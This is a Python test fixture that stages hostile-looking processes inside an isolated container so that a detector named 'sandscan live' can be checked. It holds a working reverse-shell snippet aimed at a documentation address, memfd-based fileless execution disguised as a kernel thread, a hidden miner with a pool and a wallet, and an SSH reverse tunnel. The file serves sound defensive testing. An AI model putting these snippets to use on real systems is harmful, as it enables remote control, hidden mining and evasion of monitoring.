"""A container full of actors on a real engine: what `sandscan live` has to tell apart. Nothing of it leaves the container.

The container has no network. Its loopback takes two networks that are reserved for documentation, so that a connection "to the
outside" has both ends in it.
"""

import os
import socket
import subprocess
import threading
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from fixtures import miners
from fixtures.elf import build
from fixtures.wallet import monero
from tests import host_image
from tests.engine_fixture import Engine, program

OUTSIDE4, OUTSIDE6 = "203.0.113.7", "2001:db8::7"
NAME = f"stage-{os.getpid()}"
IMAGE = f"live-{NAME}"
POOL = "stratum+tcp://pool.example:3333"

_WAIT = "import os, time\nopen(__file__.replace('/actors/', '/tmp/at-') + f'-{os.getpid()}', 'w').close()\nwhile True: time.sleep(60)\n"
"""An actor in its place says so."""
ACTORS = {
    "server": "import socket, time\n"
    "held = []\n"
    "ports = [socket.create_server(('', p)) for p in (443, 3333, 8443)]\n"
    "ports.append(socket.create_server(('::', 4443), family=socket.AF_INET6))\n"
    "udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(('', 5353))\n"
    "import selectors\n"
    "s = selectors.DefaultSelector()\n"
    "for p in ports: s.register(p, selectors.EVENT_READ)\n"
    "open('/tmp/ready', 'w').close()\n"
    "while True:\n"
    "    for key, _ in s.select(): held.append(key.fileobj.accept()[0])\n",
    "client4": f"import socket\nc = socket.create_connection(('{OUTSIDE4}', 443))\n" + _WAIT,
    "client6": f"import socket\nc = socket.create_connection(('{OUTSIDE6}', 4443))\n" + _WAIT,
    "mapped": f"import socket\nc = socket.socket(socket.AF_INET6)\nc.connect(('::ffff:{OUTSIDE4}', 443))\n" + _WAIT,
    "asker": f"import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.connect(('{OUTSIDE4}', 53))\n"
    + _WAIT,
    "busy": "import time\nend = time.monotonic() + 6\nwhile time.monotonic() < end: pass\ntime.sleep(600)\n",
    "memory": "import os\nfd = os.memfd_create('payload')\nos.write(fd, open('/usr/bin/sleep', 'rb').read())\n"
    "os.execve(f'/proc/self/fd/{fd}', ['[kworker/0:1-events]', '600'], {})\n",
    "gone": "import os, shutil\nshutil.copy('/usr/bin/sleep', '/tmp/gone')\npid = os.posix_spawn('/tmp/gone', ['/tmp/gone', '601'], {})\n"
    "while b'601' not in open(f'/proc/{pid}/cmdline', 'rb').read(): pass\nos.unlink('/tmp/gone')\n" + _WAIT,
    "updated": "import os, shutil\nshutil.copy('/usr/bin/sleep', '/usr/bin/daemon')\npid = os.posix_spawn('/usr/bin/daemon', ['daemon', '602'], {})\n"
    "while b'602' not in open(f'/proc/{pid}/cmdline', 'rb').read(): pass\n"
    "shutil.copy('/usr/bin/sleep', '/usr/bin/daemon.new')\nos.rename('/usr/bin/daemon.new', '/usr/bin/daemon')\n"
    + _WAIT,
    "packet": "import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))\n" + _WAIT,
    "raw": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)\n" + _WAIT,
    "raw6": "import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)\n" + _WAIT,
    "echo": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n" + _WAIT,
    "engine": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/plain-name')\n" + _WAIT,
    "neighbour": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/app')\n" + _WAIT,
    "inner": "import socket\na = socket.socket(socket.AF_UNIX)\na.bind('/run/own.sock')\na.listen()\n"
    "b = socket.socket(socket.AF_UNIX)\nb.connect('/run/own.sock')\nc, _ = a.accept()\n" + _WAIT,
    "backdoor": f"import os, socket\nc = socket.create_connection(('{OUTSIDE4}', 8443))\n"
    "os.dup2(c.fileno(), 0)\nos.dup2(c.fileno(), 1)\nos.execv('/usr/bin/sh', ['sh', '-i'])\n",
    "worker": _WAIT,
    "test": "import unittest\nclass T(unittest.TestCase):\n    def test(self):\n        import time; time.sleep(600)\nunittest.main()\n",
    "linked": f"import socket\nc = socket.create_connection(('{OUTSIDE4}', 3333))\n" + _WAIT,
}
_PLAY = """
import os, subprocess, sys, time
def start(*words, **how):
    return subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **how)
start("python3", "/actors/server")
while not os.path.exists("/tmp/ready"): time.sleep(0.02)
for name in sorted(os.listdir("/actors")):
    if name not in ("server", "worker", "echo"): start("python3", f"/actors/{name}")
start("ping", "/actors/echo")
start("icmptunnel", "/actors/echo")
start("python3", "/actors/worker", "-o", "POOL", "-u", "WALLET", "--donate-level", "1")
start("/usr/lib/.cache/kworker")
start("sh", "-c", "sleep 603; true")
start("python3", "/actors/worker", "--password", "hunter2secret", env={**os.environ, "NGROK_AUTHTOKEN": "2abcSECRETtoken", "HTTPS_PROXY": "http://u:pw@proxy:3128"})
os.makedirs("/run/sshd", exist_ok=True)
start("/usr/bin/sshd", "-f", "/etc/ssh/sshd_config")
while ":07E6 00000000" not in open("/proc/net/tcp").read(): time.sleep(0.02)
start("sh", "-c", "ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /root/id -N -R 2222:127.0.0.1:443 -D 1080 -p 2022 root@OUTSIDE; true")
time.sleep(600)
"""
_SSHD = """\
Port 2022
HostKey /etc/ssh/host_key
PermitRootLogin prohibit-password
AuthorizedKeysFile /root/keys
StrictModes no
UsePAM no
"""


@dataclass(frozen=True)
class Stage:
    """A running container, its engine, and the sockets of the host that are mounted into it."""

    engine: Engine
    container: Any
    folder: Path

    @property
    def pid(self) -> int:
        self.container.reload()
        return int(self.container.attrs["State"]["Pid"])


@contextmanager
def listening(path: Path) -> Iterator[None]:
    """A server of ours at a Unix socket that takes connections and keeps them."""
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen()
        path.chmod(0o666)
        held: list[socket.socket] = []

        def accept() -> None:
            with suppress(OSError):
                while True:
                    held.append(server.accept()[0])

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        try:
            yield
        finally:
            server.shutdown(socket.SHUT_RDWR)
            for one in held:
                one.close()


def image(folder: Path) -> bytes:
    """Its file system: Python, OpenSSH and the actors."""
    key, host_key = folder / "id", folder / "host_key"
    for file in (key, host_key):
        subprocess.run([program("ssh-keygen"), "-q", "-t", "ed25519", "-N", "", "-f", file], check=True)
    play = _PLAY.replace("POOL", POOL).replace("WALLET", monero("stage")).replace("OUTSIDE", OUTSIDE4)
    passwd = b"root:x:0:0:root:/root:/bin/sh\nsshd:x:100:65534:sshd:/run/sshd:/bin/false\nnobody:x:65534:65534:nobody:/:/bin/sh\n"
    files = {
        **{f"actors/{name}": (0o644, text.encode()) for name, text in ACTORS.items()},
        "play": (0o644, play.encode()),
        "usr/lib/.cache/kworker": (0o755, build(replace(miners.XMRIG, symbols=(), waits=True))),
        "usr/bin/ping": (0o755, host_image.program("python3").resolve().read_bytes()),
        "usr/bin/icmptunnel": (0o755, host_image.program("python3").resolve().read_bytes()),
        "etc/passwd": (0o644, passwd),
        "etc/ssh/sshd_config": (0o644, _SSHD.encode()),
        "etc/ssh/host_key": (0o600, host_key.read_bytes()),
        "root/id": (0o600, key.read_bytes()),
        "root/keys": (0o600, key.with_suffix(".pub").read_bytes()),
        "run/app": (0o644, b""),
        "run/plain-name": (0o644, b""),
    }
    return host_image.tree(["sh", "sleep", "ssh", "sshd"], files)


@contextmanager
def staged(engine: Engine, folder: Path) -> Iterator[Stage]:
    """The container, once all its actors are in their places."""
    engine.client.api.import_image_from_data(image(folder), repository=IMAGE, tag="1")
    with listening(folder / "docker.sock"), listening(folder / "app.sock"):
        container = engine.client.containers.run(
            f"{IMAGE}:1",
            ["sleep", "900"],
            name=NAME,
            detach=True,
            network_mode="none",
            cap_add=["NET_RAW"],
            volumes={
                str(folder / "docker.sock"): {"bind": "/run/plain-name", "mode": "rw"},
                str(folder / "app.sock"): {"bind": "/run/app", "mode": "rw"},
            },
        )
        try:
            stage = Stage(engine, container, folder)
            _own_networks(stage.pid)
            container.exec_run(["python3", "/play"], detach=True)
            _wait(stage)
            yield stage
        finally:
            container.remove(force=True)
            engine.client.images.remove(f"{IMAGE}:1", force=True)


def _own_networks(pid: int) -> None:
    """The container's loopback takes two networks for documentation; its namespace has no way out."""
    enter = ["nsenter", f"--net=/proc/{pid}/ns/net", "sh", "-ec"]
    script = (
        "echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6; echo 0 > /proc/sys/net/ipv6/conf/lo/disable_ipv6;"
        "ip route add local 203.0.113.0/24 dev lo; ip -6 route add local 2001:db8::/64 dev lo"
    )
    subprocess.run([*enter, script], check=True)


def _wait(stage: Stage) -> None:
    """Until all actors stand: the tunnel's far end listens, those that wait have said so, and the others are what they become."""
    end = time.monotonic() + 60
    places = Counter(name for name, text in ACTORS.items() if text.endswith(_WAIT))
    places.update(("echo", "worker"))  # each is played twice
    become = {"[kworker/0:1-events]", "/usr/lib/.cache/kworker", "/actors/busy", "/actors/test", "sh -i", "sleep 603"}
    while True:
        tcp = Path(f"/proc/{stage.pid}/net/tcp").read_text()
        there = Counter(path.name.split("-")[1] for path in Path(f"/proc/{stage.pid}/root/tmp").glob("at-*"))
        names = "\n".join(row[-1] for row in stage.container.top(ps_args="-ww -eo pid,args")["Processes"])
        missing = [*(places - there), *(one for one in become if one not in names)]
        missing += [one for one in ("08AE", "0438") if f":{one} 00000000" not in tcp]
        if not missing:
            return
        assert time.monotonic() < end, f"the actors are not in their places: {missing}"
        time.sleep(0.1)
